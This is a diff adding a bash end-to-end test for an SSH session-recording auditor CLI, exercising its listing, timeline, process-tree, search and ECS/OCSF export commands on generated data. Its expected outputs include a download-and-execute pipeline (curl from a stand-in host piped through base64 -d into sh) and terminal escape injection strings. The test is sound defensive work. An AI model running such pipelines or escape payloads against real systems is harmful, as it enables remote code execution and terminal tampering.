@@ -1,0 +1,204 @@
+#!/bin/bash
+# SPDX-License-Identifier: BSD-2-Clause
+# sshrec (the auditor CLI) on a generated database (tests/bench/gen_db, fixed
+# seed, so outputs are deterministic): every subcommand, the hostile strings
+# (escape sequences, <script>, quotes, newlines), errors, ECS/OCSF required
+# fields, a read-only copy, a concurrent writer in WAL mode, a newer schema.
+# Replay under tmux and the HTML report in headless Chromium are in
+# cli_replay.sh and cli_report.sh. Needs no root.
+. "$SR_TOP_SRCDIR/tests/e2e/lib.sh"
+SR_T=$(mktemp -d /tmp/sshrec-e2e-cli.XXXXXX)
+chmod 755 "$SR_T"
+trap sr_cleanup EXIT
+GEN=$SR_TOP_BUILDDIR/tests/bench/gen_db
+[ -x "$SR_SSHREC" ] || sr_die "sshrec not built at $SR_SSHREC"
+[ -x "$GEN" ] || sr_die "gen_db not built at $GEN"
+DB=$SR_T/g.db
+"$GEN" -o "$DB" -s "$SR_TOP_SRCDIR/schema/sshrec.sql" -n 3 -e 120 --hostile || sr_die "gen_db failed"
+cp "$DB" "$DB.before"
+export SSHREC_DB=$DB
+R() { "$SR_SSHREC" --color never "$@"; }
+quiet() { "$@" >/dev/null; }
+no_ctl() { ! LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$1"; }
+sid_of() { sqlite3 -readonly "$DB" "SELECT sid FROM sessions WHERE login='$1'"; }
+A=$(sid_of alice) # the hostile session
+B=$(sid_of bob)
+C=$(sid_of carol)
+
+# ---- sessions ---------------------------------------------------------------
+R sessions >"$SR_T/sessions.txt"
+sr_check_eq "sessions lists 3 sessions and a header" 4 "$(wc -l <"$SR_T/sessions.txt")"
+sr_check "sessions shows sid, login, address, key, counts" \
+	grep -Eq "^$B +bob +192\.0\.2\.11:50001 +SHA256:bob.* +2026-01-05 08:01:00 +43\.3 s +15 +4 +3 +0$" \
+	"$SR_T/sessions.txt"
+sr_check_eq "sessions --user bob" "$B" "$(R sessions --user bob --json | jq -r '.[].sid')"
+sr_check_eq "sessions --json has counts and end" "15 4 3 2026-01-05T08:01:43.358038Z" \
+	"$(R sessions --user bob --json | jq -r '.[0] | "\(.counts.command) \(.counts.disk) \(.counts.network) \(.end)"')"
+sr_check_eq "sessions --active: none (all ended)" 0 "$(R sessions --active --json | jq length)"
+sr_check_eq "sessions --since/--until select by time" "$B" \
+	"$(R sessions --since 2026-01-05T08:01:30Z --until 2026-01-05T08:01:59Z --json | jq -r '.[].sid')"
+sr_check_eq "sessions --host matches the server" 3 "$(R sessions --host bastion-1 --json | jq length)"
+
+# ---- errors: one line, non-zero ---------------------------------------------
+err() { # err CODE PATTERN -- command
+	local code=$1 pat=$2 rc=0
+	shift 2
+	"$@" >/dev/null 2>"$SR_T/err" || rc=$?
+	[ "$rc" = "$code" ] && [ "$(wc -l <"$SR_T/err")" = 1 ] && grep -Eq "^sshrec: $pat" "$SR_T/err" ||
+		{ echo "rc=$rc stderr: $(cat "$SR_T/err")"; return 1; }
+}
+sr_check "bad time: usage error" err 2 "--since: bad time 'last tuesday'" R sessions --since 'last tuesday'
+sr_check "relative times accepted" quiet R sessions --since -2h --until now
+sr_check "yesterday accepted" quiet R sessions --since yesterday
+sr_check "missing database" err 1 "cannot open database $SR_T/nope.db: No such file" \
+	R --db "$SR_T/nope.db" sessions
+sr_check "unknown sid" err 1 "unknown session '0000000000'" R timeline 0000000000
+sr_check "short sid prefix refused" err 1 "'019b8d2' is not a session id" R tree 019b8d2
+sr_check "unknown type" err 2 "--type: unknown type 'bogus'" R timeline "$A" --type bogus
+sr_check "bad --dst" err 2 "--dst: expected" R search --dst '[::1'
+sr_check "unknown command" err 2 "unknown command 'frobnicate'" R frobnicate
+cp "$DB" "$SR_T/newer.db"
+sqlite3 "$SR_T/newer.db" 'PRAGMA user_version = 99'
+sr_check "newer schema refused" err 1 \
+	"database schema version 99 is newer than this sshrec supports \(2\)$" R --db "$SR_T/newer.db" sessions
+: >"$SR_T/empty.db"
+sr_check "not an sshrec database" err 1 "$SR_T/empty.db is not an sshrec database" \
+	R --db "$SR_T/empty.db" sessions
+
+# ---- timeline -----------------------------------------------------------------
+R timeline "${A:0:8}" >"$SR_T/tl.txt"
+sr_check "timeline by 8-char prefix: every record" \
+	test "$(grep -c '^[0-9][0-9]:' "$SR_T/tl.txt")" = "$(sqlite3 "$DB" "SELECT count(*) FROM events e JOIN sessions s ON s.id=e.session_id WHERE s.sid='$A'")"
+sr_check "timeline: no control characters reach the terminal" no_ctl "$SR_T/tl.txt"
+sr_check "timeline: the OSC title sequence is shown escaped" grep -qF "exec    printf '\\e]0;pwned\\x07'" "$SR_T/tl.txt"
+sr_check "timeline: escape sequences in a path are escaped" grep -qF '/home/app/\e[2J\e[31mred O_WRONLY|O_CREAT = fd 4' "$SR_T/tl.txt"
+sr_check "timeline: newline in argv escaped" grep -qF "'it'\\''s\\nnew\\xff'" "$SR_T/tl.txt"
+sr_check_eq "timeline --type command,network" "connect exec" \
+	"$(R timeline "$A" --type command,network | awk 'NR>2 {print $4}' | sort -u | tr '\n' ' ' | sed 's/ $//')"
+sr_check_eq "timeline --grep" 2 "$(R timeline "$B" --grep 'x\.sh' --type command | grep -c exec)"
+R timeline "$A" --json >"$SR_T/tl.json"
+sr_check_eq "timeline --json is the stored records verbatim" \
+	"$(sqlite3 "$DB" "SELECT json FROM events e JOIN sessions s ON s.id=e.session_id WHERE s.sid='$A' ORDER BY ei" | jq -c . | md5sum)" \
+	"$(jq -c '.[]' "$SR_T/tl.json" | md5sum)"
+
+# ---- tree -------------------------------------------------------------------
+R tree "$C" >"$SR_T/tree-c.txt"
+sr_check "tree: the pipeline reads plainly (curl, base64 -d, sh with its children)" \
+	grep -Pzq '\|- curl -s http://203\.0\.113\.10/x\.sh  \[pid \d+, exit 0, [^]]+\]\n   \|- base64 -d  \[pid \d+, exit 0, [^]]+\]\n   \|- sh  \[pid \d+, exit 0, [^]]+\]\n   \|  \|- id  \[pid \d+, exit 0, [^]]+\]\n   \|  `- chmod \+x /tmp/\.x' \
+	"$SR_T/tree-c.txt"
+R tree "$B" --files --net >"$SR_T/tree-b.txt"
+sr_check "tree: failed exec shows the errno name" grep -q "nosuchcmd --flag  \[pid [0-9]*, exec failed: ENOENT" "$SR_T/tree-b.txt"
+sr_check "tree: a killed job shows the signal name" grep -q "sleep 600  \[pid [0-9]*, killed by SIGKILL" "$SR_T/tree-b.txt"
+sr_check "tree --net nests connects under their process" \
+	grep -Pzq 'curl -s http://203\.0\.113\.10/x\.sh  \[[^]]+\]\n   \|  `- connect 203\.0\.113\.10:80 from 10\.0\.0\.4:\d+ established' "$SR_T/tree-b.txt"
+sr_check "tree --files nests opens" grep -q '^   |     `- open /tmp/.x O_WRONLY|O_CREAT$' "$SR_T/tree-b.txt"
+sr_check "tree: ASCII when not a UTF-8 tty" no_ctl "$SR_T/tree-b.txt"
+R tree "$A" --files >"$SR_T/tree-a.txt"
+sr_check "tree (hostile): no control characters" no_ctl "$SR_T/tree-a.txt"
+sr_check "tree (hostile): argv escaped and quoted" grep -qF "printf '\\e]0;pwned\\x07'  [pid" "$SR_T/tree-a.txt"
+sr_check_eq "tree --json: processes in preorder with parents" "$(sqlite3 "$DB" "SELECT count(*) FROM processes p JOIN sessions s ON s.id=p.session_id WHERE s.sid='$B'")" \
+	"$(R tree "$B" --json | jq '.processes | length')"
+sr_check_eq "tree --json: outcome words" "exec failed: ENOENT" \
+	"$(R tree "$B" --json | jq -r '[.processes[] | select(.path == "/usr/bin/nosuchcmd")][0].outcome')"
+
+# ---- search -----------------------------------------------------------------
+sr_check_eq "search --command curl: every run" 4 "$(R search --command curl --json | jq length)"
+sr_check_eq "search --command with a glob" "$(R search --command 'cur*' --json | jq length)" 4
+sr_check_eq "search --path GLOB" 4 "$(R search --path '/tmp/*' --json | jq length)"
+sr_check_eq "search --dst ADDR:PORT" 4 "$(R search --dst 203.0.113.10:80 --json | jq length)"
+sr_check_eq "search --dst with --since" 1 \
+	"$(R search --dst 203.0.113.10 --since 2026-01-05T08:02:00Z --json | jq length)"
+sr_check "search (hostile path) table escapes" sh -c "'$SR_SSHREC' --color never search --path '*red' | grep -qF 'open /home/app/\\e[2J\\e[31mred'"
+
+# ---- export -------------------------------------------------------------------
+R export -o "$SR_T/all.jsonl"
+sr_check_eq "export jsonl: every record, verbatim" \
+	"$(sqlite3 "$DB" 'SELECT json FROM events ORDER BY time_us' | md5sum)" "$(md5sum <"$SR_T/all.jsonl")"
+R export --format ecs -o "$SR_T/all.ecs"
+R export --format ocsf -o "$SR_T/all.ocsf" 2>"$SR_T/ocsf.err"
+sr_check_eq "export ocsf: session start/end left out, said on stderr" 1 "$(grep -c 'have no OCSF class' "$SR_T/ocsf.err")"
+cat >"$SR_T/check.py" <<'PY'
+import json, sys
+# Required fields per kind, kept here on purpose (issue 6): ECS by event
+# category, OCSF 1.1 by class.
+ECS_ALL = ["@timestamp", "ecs.version", "event.kind", "event.category", "event.type",
+           "event.action", "event.code", "host.hostname", "host.id", "user.name",
+           "process.entry_leader.entity_id", "process.entry_leader.entry_meta.type",
+           "process.entry_leader.user.name", "process.entry_leader.entry_meta.source.ip"]
+ECS_CAT = {
+  "process": ["process.pid", "process.parent.pid", "process.name", "process.executable",
+              "process.args", "process.args_count", "process.working_directory"],
+  "file": ["file.path", "file.name", "process.pid", "process.executable"],
+  "network": ["source.ip", "source.port", "destination.ip", "destination.port",
+              "network.transport", "process.pid"],
+  "session": [],
+}
+OCSF_ALL = ["class_uid", "category_uid", "activity_id", "type_uid", "severity_id", "time",
+            "metadata.version", "metadata.product.name", "metadata.product.vendor_name"]
+OCSF_CLASS = {
+  1007: ["actor", "process", "process.pid", "process.cmd_line"],
+  1001: ["actor", "file", "file.name", "file.path", "file.type_id"],
+  4001: ["src_endpoint.ip", "dst_endpoint.ip", "dst_endpoint.port"],
+}
+CAT = {1007: 1, 1001: 1, 4001: 4}
+def get(d, path):
+    if path in d:
+        return d[path]
+    for k in path.split("."):
+        if not isinstance(d, dict) or k not in d:
+            raise KeyError(path)
+        d = d[k]
+    return d
+kind, fname = sys.argv[1], sys.argv[2]
+n = 0
+with open(fname, encoding="utf-8") as f:
+    for line in f:
+        d = json.loads(line)
+        n += 1
+        if kind == "ecs":
+            for p in ECS_ALL + ECS_CAT[d["event"]["category"][0]] if d["event"]["category"][0] in ECS_CAT else ECS_ALL:
+                get(d, p)
+            if d["event"]["action"] == "session.process_exit":
+                get(d, "process.exit_code")
+        else:
+            for p in OCSF_ALL + OCSF_CLASS[d["class_uid"]]:
+                get(d, p)
+            assert d["type_uid"] == d["class_uid"] * 100 + d["activity_id"], line
+            assert d["category_uid"] == CAT[d["class_uid"]], line
+            assert isinstance(d["time"], int) and d["time"] > 1.7e12, line
+print(n)
+PY
+sr_check_eq "export ecs: one document per record, required fields present" \
+	"$(wc -l <"$SR_T/all.jsonl")" "$("$SR_PY" "$SR_T/check.py" ecs "$SR_T/all.ecs" 2>&1)"
+sr_check_eq "export ocsf: classes 1007/1001/4001 with required fields" \
+	"$(sqlite3 "$DB" "SELECT count(*) FROM events WHERE event NOT IN ('session.start','session.end')")" \
+	"$("$SR_PY" "$SR_T/check.py" ocsf "$SR_T/all.ocsf" 2>&1)"
+sr_check_eq "export --sid --format ecs" "$(R timeline "$B" --json | jq length)" \
+	"$(R export --sid "$B" --format ecs | wc -l)"
+sr_check "export is valid UTF-8" iconv -f UTF-8 -t UTF-8 "$SR_T/all.ecs" -o /dev/null
+
+# ---- read-only: a copy in a read-only place, and next to a writer -------------
+mkdir "$SR_T/ro"
+cp "$DB" "$SR_T/ro/copy.db"
+chmod 0444 "$SR_T/ro/copy.db"
+chmod 0555 "$SR_T/ro"
+if [ "$(id -u)" = 0 ]; then RO=(setpriv --reuid=65534 --regid=65534 --clear-groups); else RO=(); fi
+sr_check_eq "works on a read-only copy (no -wal/-shm can be made)" 3 \
+	"$("${RO[@]}" "$SR_SSHREC" --db "$SR_T/ro/copy.db" sessions --json | jq length)"
+"$SR_PY" - "$DB" "$SR_T/writer.ready" <<'PY' &
+import sqlite3, sys, time
+c = sqlite3.connect(sys.argv[1], isolation_level=None)
+c.execute("PRAGMA journal_mode=WAL")
+c.execute("BEGIN IMMEDIATE")
+c.execute("INSERT INTO meta (key, value) VALUES ('writer', 'busy')")
+open(sys.argv[2], "w").close()
+time.sleep(3)
+c.execute("COMMIT")
+PY
+SR_PIDS+=($!)
+for _ in $(seq 50); do [ -e "$SR_T/writer.ready" ] && break; sleep 0.1; done
+sr_check_eq "reads while a writer holds a WAL write transaction" 3 "$(R sessions --json | jq length)"
+sr_check_eq "the CLI never writes: the database is unchanged" "$(md5sum <"$SR_T/ro/copy.db")" "$(md5sum <"$DB.before")"
+sr_check "no -wal/-shm files left next to the read-only copy" test ! -e "$SR_T/ro/copy.db-wal"
+
+sr_finish
